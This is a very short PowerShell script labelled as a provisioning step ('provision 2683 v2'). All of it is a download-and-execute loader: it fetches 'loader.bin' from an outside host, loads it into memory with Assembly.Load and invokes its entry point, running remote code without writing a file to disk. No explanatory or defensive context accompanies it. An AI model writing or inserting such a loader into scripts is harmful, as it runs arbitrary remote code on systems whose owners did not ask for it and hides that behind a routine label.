# provision 2683 v2
$b = (New-Object Net.WebClient).DownloadData('http://files.sync-svc.example/loader.bin')
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
